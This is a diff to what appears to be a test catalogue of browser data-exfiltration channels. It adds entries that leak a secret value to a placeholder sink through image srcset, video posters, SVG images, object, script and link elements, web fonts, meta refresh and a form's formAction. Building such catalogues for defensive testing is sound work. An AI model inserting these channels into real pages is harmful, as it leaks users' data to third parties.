@@ -53,5 +53,28 @@ export const ADDRESSES: readonly Attack[] = [
   variant('39b', '@import in a style sheet', (secret) => {
     document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${address(secret, 'sheet.css')}";` }));
   }),
+  row('65', 'image, candidates of srcset', (secret) => void element('img', { srcset: `${address(secret, 'image.png')} 2x` })),
+  variant('65b', 'poster of a video', (secret) => void element('video', { poster: address(secret, 'image.png') })),
+  variant('65c', 'image in SVG', (secret) => {
+    element('div', {}).innerHTML = `<svg><image href="${address(secret, 'image.png')}"/></svg>`;
+  }),
+  row('66', 'object with the value in its address', (secret) => void element('object', { data: address(secret, 'page') })),
+  row('67', 'script, value in the query', (secret) => void element('script', { src: address(secret, 'module.js') })),
+  variant('67b', 'link rel=modulepreload', (secret) => void element('link', { rel: 'modulepreload', href: address(secret, 'module.js') })),
+  variant('67c', 'link rel=stylesheet', (secret) => void element('link', { rel: 'stylesheet', href: address(secret, 'sheet.css') })),
+  row('68', 'address of a font', (secret) => new FontFace('note', `url("${address(secret, 'font.woff2')}")`).load()),
+  row('69', 'meta refresh', (secret) => {
+    const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${address(secret, 'page')}` });
+    document.head.append(refresh);
+  }),
+  row('70', 'form GET by the formaction of a button', (secret) => {
+    const form = element('form', { method: 'get', action: '/blank', target: 'nowhere' });
+    form.innerHTML = '<input name="q"><button>Go</button>';
+    const [field, button] = [form.querySelector('input'), form.querySelector('button')];
+    if (!field || !button) return;
+    field.value = secret.text;
+    button.formAction = `${secret.sink}page`;
+    button.click();
+  }),
   row('57', 'import() with the value in the query', (secret) => import(/* @vite-ignore */ address(secret, 'module.js'))),
 ];
